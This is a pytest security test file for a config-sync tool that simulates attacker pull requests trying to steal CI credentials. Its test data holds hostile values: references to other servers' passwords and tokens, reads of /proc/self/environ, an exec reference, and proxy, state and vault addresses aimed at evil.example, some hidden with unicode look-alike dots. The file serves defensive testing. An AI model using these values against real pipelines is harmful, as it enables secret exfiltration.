"""
Pull requests of an attacker, in the jobs that would run them: before the merge and after it.

Whatever they write into YAML, the attacker hears no credential of the job, no program
is started with one, and ICE is not told to use a known password at another host.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Final

import pytest
from attacker import server

if TYPE_CHECKING:
    from attacker import Job

pytestmark = pytest.mark.slow

_SEALED: Final = (
    server(1, "ENC[AES256_GCM,data:x,iv:x,tag:x,type:str]")
    + "sops:\n  hc_vault:\n    - {vault_address: 'https://evil.example', engine_path: transit, "
    "key_name: k, enc: x}\n  mac: x\n  version: 3.9.0\n"
)


LOCKS: Final = """\
state: {backend: http, address: 'https://gitlab.com/s', lock_address: 'https://evil.example/l'}
"""


def _new(reference: str) -> dict[str, str]:
    return {"servers/60.yaml": server(1, reference)}


REQUESTS: Final[dict[str, tuple[dict[str, str], str, str]]] = {
    # name: files, more under `api:`, more at the top of icesync.yaml
    "password of another server": (_new("ref+env://ICE_59_663_SMTP"), "", ""),
    "empty fragment": (_new("ref+env://ICE_59_663_SMTP#"), "", ""),
    "empty query": (_new("ref+env://ICE_59_663_SMTP?"), "", ""),
    "escaped letter": (_new("ref+env://ICE_59_663_SMT%50"), "", ""),
    "token of ICE": (_new("ref+env://ICE_TOKEN"), "", ""),
    "token of ICE, spelled": (_new("ref+env://ICE_TOKEN#"), "", ""),
    "fingerprint key": (_new("ref+env://ICESYNC_FINGERPRINT_KEY"), "", ""),
    "all variables allowed": (
        _new("ref+env://GITHUB_TOKEN"), "", 'secrets: {env_allow: ["*"]}\n',
    ),
    "all files allowed": (
        _new("ref+file:///proc/self/environ"), "", 'secrets: {file_allow: ["/**"]}\n',
    ),
    "link to the environment": (
        {**_new("ref+file://e"), "e": "->/proc/self/environ"}, "", "",
    ),
    "guards off": (
        {"servers/59.yaml": server(663, "ref+env://ICE_59_663_SMTP", organization=59)}, "",
        "guards: []\nlimits: {updates: 100%, adds: 100}\n",
    ),
    "other host of a known server": (
        {"servers/59.yaml": server(663, "ref+env://ICE_59_663_SMTP", organization=59)}, "", "",
    ),
    "forgotten and added": (
        {
            "servers/59.yaml": (
                server(664, "ref+env://ICE_59_663_SMTP", organization=59)
                + "removed: [{skill: 663, action: forget}]\n"
            ),
        }, "", "",
    ),
    "proxy": ({}, "  proxy: http://evil.example:3128\n", ""),
    "proxy with an authority": (
        {"ca.pem": "AUTHORITY"}, "  proxy: http://evil.example:3128\n  ca_file: ca.pem\n", "",
    ),
    "authority by another way": ({"ca.pem": "AUTHORITY"}, "  ca_file: /proc/self/cwd/ca.pem\n", ""),
    "proxy in unicode": ({}, "  proxy: 'http://evil\u3002example:3128'\n", ""),
    "state elsewhere": ({}, "", "state: {backend: http, address: 'https://evil.example/s'}\n"),
    "lock elsewhere": (
        {}, "", LOCKS,
    ),
    "state in unicode": ({}, "", "state: {backend: http, address: 'https://evil\uff0eexample'}\n"),
    "state out of the repository": ({}, "", "state: {path: ../../x.json}\n"),
    "key that is a pattern": (_new("ref+env://GITHUB_TOKEN"), "", "KEY *\n"),
    "key that is another secret": (_new("ref+env://GITHUB_TOKEN"), "", "KEY GITHUB_TOKEN\n"),
    "vault on a foreign host": (_new("ref+azurekeyvault://evil.example/n"), "", ""),
    "vault in unicode": (
        _new("ref+azurekeyvault://evil%E3%80%82example%23.vault.azure.net/n"), "", "",
    ),
    "path out of the mount": (_new("ref+vault://../../v1/auth/token/lookup-self#/id"), "", ""),
    "sealed file with an address": ({"servers/60.yaml": _SEALED}, "", ""),
    "program": (_new("ref+exec://env"), "", ""),
    "program of a store": (_new("ref+op://vault/item/field"), "", ""),
}  # fmt: skip


def propose(job: Job, name: str) -> None:
    """Write the files of the pull request *name*."""
    files, api, rest = REQUESTS[name]
    config = job.config(api, "" if rest.startswith("KEY") else rest)
    if rest.startswith("KEY"):
        config = config.replace("ICESYNC_FINGERPRINT_KEY", rest.split()[1])
    authority = job.attacker.authority.read_text()
    job.write({n: authority if text == "AUTHORITY" else text for n, text in files.items()})
    job.write({"icesync.yaml": config})


@pytest.mark.parametrize("name", REQUESTS)
def test_pull_request_takes_nothing(job: Job, name: str) -> None:
    """Neither the job that plans it, with or without secrets, nor the one that applies it."""
    propose(job, name)
    runs = [
        job.run("plan", "--secrets", "skip"),
        job.run("plan", "--probe"),
        job.run("apply", "--auto-approve", "--probe"),
        job.run("apply", "--auto-approve"),
    ]

    assert job.stolen == []
    for result in runs:
        assert result.code in {0, 3, 4, 7, 8, 9, 11}, result
        assert "Traceback" not in result.stderr
        assert "this is a bug" not in result.stderr
    assert not any(leaked(job, result.stdout + result.stderr) for result in runs)


def leaked(job: Job, text: str) -> list[str]:
    """Return the credentials that *text* holds."""
    return [name for name, secret in job.canaries.items() if secret in text]


_TAKEN_AWAY: Final = {
    "password of another server": (
        "import icesync.engine.plan as p\np.confirmed_hosts = lambda *_, **__: {}"
    ),
    "token of ICE": (
        "import icesync.engine.plan as p, icesync.engine.validate as v\n"
        "p.confirmed_hosts = lambda *_, **__: {}\np.credentials_sent = lambda *_: []\n"
        "v.kept_credentials = p.kept_credentials = lambda *_: {}"
    ),
    "state elsewhere": ("import icesync.model.host as t\nt.TrustedHosts.check = lambda *_: None"),
    "guards off": (
        "import icesync.engine.plan as p, icesync.engine.plan_rules as s\n"
        "p.check_safeguards = lambda project, snapshot, providers, *_, **__: "
        "s.SafetyVerdict(providers, project.guards)"
    ),
}
"""What is taken away so that the attack must succeed: else the test above would prove nothing."""


@pytest.mark.parametrize("name", _TAKEN_AWAY)
def test_the_attacker_is_heard_without_the_check(job: Job, name: str) -> None:
    """The negative control: where a check is missing, the same play finds the loss."""
    propose(job, name)
    job.run("plan", "--probe", without=_TAKEN_AWAY[name])
    job.run("apply", "--auto-approve", without=_TAKEN_AWAY[name])

    assert job.stolen != []
